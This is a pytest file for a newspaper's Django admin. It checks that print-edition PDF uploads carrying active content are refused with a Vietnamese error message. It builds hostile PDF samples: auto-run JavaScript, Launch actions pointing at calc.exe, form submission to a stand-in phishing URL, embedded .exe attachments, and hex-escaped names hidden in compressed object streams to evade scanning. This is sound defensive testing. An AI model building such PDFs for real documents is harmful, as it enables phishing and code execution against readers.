"""Print PDFs with active content: scripts, automatic actions, attachments and forms are refused at upload.

An attack run uploaded a print edition whose ``/OpenAction`` ran
``app.alert``; it was stored and served unchanged. Each test here starts from
the same small valid PDF (as Pillow writes it) and adds exactly one kind of
active content with pikepdf, then uploads it through the admin's print-issue
form as an editor: the form comes back with a Vietnamese message that names
what was found and says how to export the file again, and nothing is stored.
Ordinary print PDFs, with web links, internal jumps, bookmarks and an opening
destination, still upload.
"""

import io
import zlib

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from articles.content.print_editions import store_print_issue
from articles.models import PrintIssue

PRINT_ADD = "/admin/articles/printissue/add/"
SCRIPT = "app.alert('Tài khoản của bạn đã bị khóa');"
EVIL_SITE = "https://bao-gia-mao.example/dang-nhap"

ADVICE = (
    "Hãy xuất lại PDF từ phần mềm dàn trang theo chuẩn in ấn (ví dụ PDF/X), không kèm JavaScript, tệp đính kèm "
    "hay biểu mẫu tương tác, rồi tải lên lại."
)
JAVASCRIPT = "mã JavaScript"
OPEN_ACTION = "hành động tự chạy khi mở tệp (OpenAction)"
ADDITIONAL_ACTIONS = "hành động tự chạy khi mở trang, rê chuột hay nhập liệu (AA)"
LAUNCH = "lệnh mở chương trình hoặc tệp bên ngoài (Launch)"
EMBEDDED_FILE = "tệp đính kèm"
XFA_FORM = "biểu mẫu XFA"
FORM_ACTION = "lệnh gửi, nhập hoặc xóa dữ liệu biểu mẫu (SubmitForm, ImportData, ResetForm)"
REMOTE_DOCUMENT = "lệnh mở tài liệu khác (GoToR, GoToE, GoToDp)"
MULTIMEDIA = "nội dung đa phương tiện có thể chạy mã (RichMedia, 3D, Screen, Movie, Sound, Rendition)"
UNSAFE_LINK = "liên kết không phải http, https, mailto hay tel"
ENCRYPTED = (
    "Tệp PDF được mã hóa hoặc đặt mật khẩu nên không kiểm tra được nội dung. "
    "Hãy xuất lại PDF không mã hóa, không đặt mật khẩu rồi tải lên lại."
)


def refusal_for(*found: str) -> str:
    return f"Tệp PDF có nội dung chủ động, không được phép trên báo in: {'; '.join(found)}. {ADVICE}"


# Building the PDFs ---------------------------------------------------------------------------------------------


def plain_pdf(pages: int = 2) -> bytes:
    """The small valid print PDF the other print-edition tests use."""
    images = [Image.new("RGB", (595, 842), color) for color in ["red", "white", "blue"][:pages]]
    buffer = io.BytesIO()
    images[0].save(buffer, "PDF", save_all=True, append_images=images[1:], resolution=72)
    return buffer.getvalue()


def pdf(value):
    """A PDF object from plain Python: "/Name" strings become names, other strings text, dicts and lists nest."""
    if isinstance(value, dict):
        return pikepdf.Dictionary({key: pdf(item) for key, item in value.items()})
    if isinstance(value, list):
        return pikepdf.Array([pdf(item) for item in value])
    if isinstance(value, str):
        return pikepdf.Name(value) if value.startswith("/") else pikepdf.String(value)
    return value


def edited(change, **save_options) -> bytes:
    """``plain_pdf()`` with ``change(document)`` applied, saved by pikepdf with ``save_options``."""
    with pikepdf.open(io.BytesIO(plain_pdf())) as document:
        change(document)
        buffer = io.BytesIO()
        document.save(buffer, **save_options)
    return buffer.getvalue()


def javascript_action() -> dict:
    return {"/S": "/JavaScript", "/JS": SCRIPT}


def web_link_action(uri: str = EVIL_SITE) -> dict:
    return {"/S": "/URI", "/URI": uri}


def on_catalog(key: str, value):
    def change(document):
        document.Root[key] = document.make_indirect(pdf(value))

    return change


def on_first_page(key: str, value: dict):
    def change(document):
        document.pages[0].obj[key] = pdf(value)

    return change


def annotation(subtype: str = "/Link", **entries) -> dict:
    return {"/Type": "/Annot", "/Subtype": subtype, "/Rect": [50, 700, 300, 760], "/Border": [0, 0, 0]} | {
        f"/{key}": value for key, value in entries.items()
    }


def add_annotation(document, page_index: int, annotation_dict: dict):
    page = document.pages[page_index].obj
    annotations = page.get("/Annots", pikepdf.Array())
    annotations.append(document.make_indirect(pdf(annotation_dict)))
    page.Annots = annotations


def with_annotation(annotation_dict: dict):
    return lambda document: add_annotation(document, 0, annotation_dict)


def link_doing(action: dict):
    return with_annotation(annotation(A=action))


def with_form_field(**entries):
    """A text field (its own widget) on page 1, listed in the catalog's /AcroForm."""

    def change(document):
        page = document.pages[0].obj
        field = document.make_indirect(pdf(annotation("/Widget", FT="/Tx", T="ho_ten", P=page, **entries)))
        page.Annots = pikepdf.Array([field])
        document.Root.AcroForm = pdf({"/Fields": [field]})

    return change


def with_xfa(document):
    xfa = pikepdf.Stream(
        document, b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>'
    )
    document.Root.AcroForm = pdf({"/Fields": [], "/XFA": document.make_indirect(xfa)})


def with_document_javascript(document):
    script = document.make_indirect(pdf(javascript_action()))
    document.Root.Names = pdf({"/JavaScript": {"/Names": ["canh-bao", script]}})


def with_attachment(document):
    document.attachments["hoa-don.exe"] = pikepdf.AttachedFileSpec(document, b"MZ\x90\x00 not really a program")


def with_javascript_in_an_outline_item(document):
    with document.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Trang nhất", action=pdf(javascript_action())))


def with_javascript_under_an_unknown_key(document):
    document.pages[0].obj.PieceInfo = pdf({"/Newsroom": {"/Private": javascript_action()}})


def packed_pdf(objects: dict[int, bytes]) -> bytes:
    """A one-page PDF whose objects all sit in one compressed object stream, found through a compressed xref stream.

    ``objects`` are the bodies of objects 1 (the catalog), 2 (the pages) and 3
    (the page) and any more; no name or string of them is visible in the file's
    bytes.
    """
    numbers = sorted(objects)
    bodies, offsets, position = [], [], 0
    for number in numbers:
        offsets.append(f"{number} {position}")
        bodies.append(objects[number])
        position += len(objects[number]) + 1
    header = (" ".join(offsets) + "\n").encode()
    packed = zlib.compress(header + b"\n".join(bodies) + b"\n")
    stream_number, xref_number = max(numbers) + 1, max(numbers) + 2
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    stream_offset = len(out)
    out += (
        f"{stream_number} 0 obj\n<< /Type /ObjStm /N {len(numbers)} /First {len(header)} /Filter /FlateDecode "
        f"/Length {len(packed)} >>\nstream\n"
    ).encode()
    out += packed + b"\nendstream\nendobj\n"
    xref_offset = len(out)
    rows = [b"\x00" + (0).to_bytes(4) + (65535).to_bytes(2)]
    in_stream = {number: index for index, number in enumerate(numbers)}
    for number in range(1, xref_number + 1):
        if number in in_stream:
            rows.append(b"\x02" + stream_number.to_bytes(4) + in_stream[number].to_bytes(2))
        elif number == stream_number:
            rows.append(b"\x01" + stream_offset.to_bytes(4) + (0).to_bytes(2))
        elif number == xref_number:
            rows.append(b"\x01" + xref_offset.to_bytes(4) + (0).to_bytes(2))
        else:
            rows.append(b"\x00" + (0).to_bytes(4) + (0).to_bytes(2))
    table = zlib.compress(b"".join(rows))
    out += (
        f"{xref_number} 0 obj\n<< /Type /XRef /Size {xref_number + 1} /W [1 4 2] /Root 1 0 R /Filter /FlateDecode "
        f"/Length {len(table)} >>\nstream\n"
    ).encode()
    out += table + b"\nendstream\nendobj\n"
    out += f"startxref\n{xref_offset}\n%%EOF\n".encode()
    return bytes(out)


PACKED_PAGES = {
    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
}


# Uploading -----------------------------------------------------------------------------------------------------


@pytest.fixture
def editor_client(client, editor):
    client.force_login(editor)
    return client


def upload_print_issue(client, content: bytes):
    """Post ``content`` to the admin's print-issue form; return (accepted, the PDF field's errors)."""
    upload = SimpleUploadedFile("bao-in.pdf", content, content_type="application/pdf")
    response = client.post(PRINT_ADD, {"number": "1234", "date": "05/03/2026", "pdf": upload})
    if response.status_code == 302:
        return True, []
    assert response.status_code == 200, response.status_code
    return False, response.context["adminform"].form.errors["pdf"]


def stored_files(media_root) -> list[str]:
    return sorted(path.relative_to(media_root).as_posix() for path in media_root.rglob("*") if path.is_file())


def assert_refused(client, media_root, content: bytes, message: str) -> None:
    accepted, errors = upload_print_issue(client, content)

    assert not accepted
    assert errors == [message]
    assert not PrintIssue.objects.exists()
    assert not stored_files(media_root)


# One kind each -------------------------------------------------------------------------------------------------

CASES = {
    "open-action-javascript": (on_catalog("/OpenAction", javascript_action()), [JAVASCRIPT, OPEN_ACTION]),
    "document-level-javascript": (with_document_javascript, [JAVASCRIPT]),
    "javascript-in-a-link": (link_doing(javascript_action()), [JAVASCRIPT]),
    "javascript-in-a-bookmark": (with_javascript_in_an_outline_item, [JAVASCRIPT]),
    "javascript-under-an-unknown-key": (with_javascript_under_an_unknown_key, [JAVASCRIPT]),
    "open-action-opens-a-website": (on_catalog("/OpenAction", web_link_action()), [OPEN_ACTION]),
    "open-action-goto-then-more": (
        on_catalog("/OpenAction", {"/S": "/GoTo", "/D": [0, "/Fit"], "/Next": web_link_action()}),
        [OPEN_ACTION],
    ),
    "additional-actions-on-the-catalog": (on_catalog("/AA", {"/WC": web_link_action()}), [ADDITIONAL_ACTIONS]),
    "additional-actions-on-a-page": (on_first_page("/AA", {"/O": web_link_action()}), [ADDITIONAL_ACTIONS]),
    "additional-actions-on-an-annotation": (
        with_annotation(annotation(AA={"/E": web_link_action()})),
        [ADDITIONAL_ACTIONS],
    ),
    "additional-actions-on-a-form-field": (with_form_field(AA={"/K": web_link_action()}), [ADDITIONAL_ACTIONS]),
    "launch-in-a-link": (link_doing({"/S": "/Launch", "/F": "C:\\Windows\\System32\\calc.exe"}), [LAUNCH]),
    "launch-as-open-action": (on_catalog("/OpenAction", {"/S": "/Launch", "/F": "calc.exe"}), [OPEN_ACTION, LAUNCH]),
    "embedded-files": (with_attachment, [EMBEDDED_FILE]),
    "file-attachment-annotation": (
        with_annotation(annotation("/FileAttachment", FS={"/Type": "/Filespec", "/F": "hoa-don.exe"})),
        [EMBEDDED_FILE],
    ),
    "xfa-form": (with_xfa, [XFA_FORM]),
    "submit-form": (link_doing({"/S": "/SubmitForm", "/F": {"/FS": "/URL", "/F": EVIL_SITE}}), [FORM_ACTION]),
    "submit-form-on-a-field": (
        with_form_field(A={"/S": "/SubmitForm", "/F": {"/FS": "/URL", "/F": EVIL_SITE}}),
        [FORM_ACTION],
    ),
    "import-data": (link_doing({"/S": "/ImportData", "/F": "du-lieu.fdf"}), [FORM_ACTION]),
    "goto-remote": (
        link_doing({"/S": "/GoToR", "/F": "\\\\may-chu\\chia-se\\bao.pdf", "/D": [0, "/Fit"]}),
        [REMOTE_DOCUMENT],
    ),
    "goto-embedded": (
        link_doing({"/S": "/GoToE", "/D": [0, "/Fit"], "/T": {"/R": "/C", "/N": "a"}}),
        [REMOTE_DOCUMENT],
    ),
    "rich-media": (with_annotation(annotation("/RichMedia", RichMediaContent={})), [MULTIMEDIA]),
    "rendition-action": (link_doing({"/S": "/Rendition", "/OP": 0}), [MULTIMEDIA]),
    "javascript-link": (link_doing(web_link_action("javascript:app.alert(1)")), [UNSAFE_LINK]),
    "javascript-link-disguised": (link_doing(web_link_action(" JavaScript\t:app.alert(1)")), [UNSAFE_LINK]),
    "file-link": (link_doing(web_link_action("file:///C:/Windows/System32/calc.exe")), [UNSAFE_LINK]),
}


@pytest.mark.parametrize(("change", "found"), list(CASES.values()), ids=list(CASES))
def test_a_print_pdf_with_active_content_is_refused_naming_what_was_found(editor_client, media_root, change, found):
    assert_refused(editor_client, media_root, edited(change), refusal_for(*found))


def test_javascript_in_a_compressed_object_stream_with_hex_escaped_names_is_refused(editor_client, media_root):
    content = packed_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R /Open#41ction 4 0 R >>",
            **PACKED_PAGES,
            4: b"<< /#53 /J#61va#53cript /J#53 (app.alert\\(1\\)) >>",
        }
    )
    assert b"JavaScript" not in content and b"OpenAction" not in content and b"/JS" not in content

    assert_refused(editor_client, media_root, content, refusal_for(JAVASCRIPT, OPEN_ACTION))


def test_a_hex_escaped_launch_in_a_link_inside_an_object_stream_is_refused(editor_client, media_root):
    content = packed_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: PACKED_PAGES[2],
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
            4: b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /#53 /L#61unch /F (calc.exe) >> >>",
        }
    )

    assert_refused(editor_client, media_root, content, refusal_for(LAUNCH))


def test_javascript_in_object_streams_written_by_pikepdf_is_refused(editor_client, media_root):
    content = edited(
        on_catalog("/OpenAction", javascript_action()), object_stream_mode=pikepdf.ObjectStreamMode.generate
    )
    assert b"JavaScript" not in content

    assert_refused(editor_client, media_root, content, refusal_for(JAVASCRIPT, OPEN_ACTION))


def test_an_unreferenced_object_with_javascript_is_refused(editor_client, media_root):
    content = packed_pdf(
        {1: b"<< /Type /Catalog /Pages 2 0 R >>", **PACKED_PAGES, 4: b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"}
    )

    assert_refused(editor_client, media_root, content, refusal_for(JAVASCRIPT))


def test_store_print_issue_refuses_active_content_too(editor, media_root):
    upload = SimpleUploadedFile("bao.pdf", edited(on_catalog("/OpenAction", javascript_action())))

    with pytest.raises(ValidationError) as refused:
        store_print_issue(PrintIssue(number=1, date=None), upload, uploaded_by=editor)

    assert refused.value.messages == [refusal_for(JAVASCRIPT, OPEN_ACTION)]
    assert not PrintIssue.objects.exists() and not stored_files(media_root)


# Encrypted and unreadable --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "encryption",
    [
        pikepdf.Encryption(owner="chu-so-huu", user="", R=6),
        pikepdf.Encryption(owner="chu-so-huu", user="mat-khau", R=6),
        pikepdf.Encryption(owner="chu-so-huu", user="", R=4, aes=False, metadata=False),
    ],
    ids=["aes-256-no-open-password", "aes-256-open-password", "rc4-no-open-password"],
)
def test_an_encrypted_print_pdf_is_refused(editor_client, media_root, encryption):
    content = edited(lambda document: None, encryption=encryption)

    assert_refused(editor_client, media_root, content, ENCRYPTED)


def test_a_pdf_whose_objects_cannot_be_read_is_refused_as_not_a_pdf(editor_client, media_root):
    content = packed_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", **PACKED_PAGES}).replace(b"/ObjStm", b"/ObjStX")

    assert_refused(editor_client, media_root, content, "Tệp tải lên không phải là tệp PDF hợp lệ.")


# What an ordinary print PDF has --------------------------------------------------------------------------------


def with_ordinary_print_features(document):
    """Web, mail and phone links, links to page 2, a page turn, bookmarks, page labels, tags, an opening view."""
    for uri in (
        "https://baodaklak.vn/thoi-su",
        "http://baodaklak.vn",
        "mailto:toasoan@baodaklak.vn",
        "tel:02623852615",
    ):
        add_annotation(document, 0, annotation(A=web_link_action(uri)))
    page_one, page_two = document.pages[0].obj, document.pages[1].obj
    add_annotation(document, 0, annotation(A={"/S": "/GoTo", "/D": [page_two, "/Fit"]}))
    add_annotation(document, 0, annotation(Dest=[page_two, "/XYZ", 0, 842, 0]))
    add_annotation(document, 1, annotation(A={"/S": "/Named", "/N": "/PrevPage"}))
    with document.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Trang nhất", 0))
        outline.root.append(pikepdf.OutlineItem("Thời sự", action=pdf({"/S": "/GoTo", "/D": [page_two, "/Fit"]})))
    document.Root.PageLabels = pdf({"/Nums": [0, {"/S": "/D"}]})
    paragraph = {"/Type": "/StructElem", "/S": "/P", "/A": {"/O": "/Layout", "/Placement": "/Block"}}
    document.Root.StructTreeRoot = document.make_indirect(
        pdf({"/Type": "/StructTreeRoot", "/K": [document.make_indirect(pdf(paragraph))]})
    )
    document.Root.OpenAction = pdf([page_one, "/Fit"])


def test_an_ordinary_print_pdf_with_links_bookmarks_and_an_opening_destination_uploads(editor_client, media_root):
    content = edited(with_ordinary_print_features)

    accepted, errors = upload_print_issue(editor_client, content)

    assert accepted, errors
    issue = PrintIssue.objects.get()
    assert issue.page_count == 2
    assert (media_root / issue.pdf.name).read_bytes() == content


def test_an_opening_jump_written_as_a_goto_action_uploads(editor_client):
    def open_at_page_two(document):
        document.Root.OpenAction = pdf({"/S": "/GoTo", "/D": [document.pages[1].obj, "/FitH", 842]})

    content = edited(open_at_page_two)

    accepted, errors = upload_print_issue(editor_client, content)

    assert accepted, errors


def test_a_pdf_packed_in_object_streams_without_active_content_uploads(editor_client):
    accepted, errors = upload_print_issue(
        editor_client, packed_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", **PACKED_PAGES})
    )

    assert accepted, errors
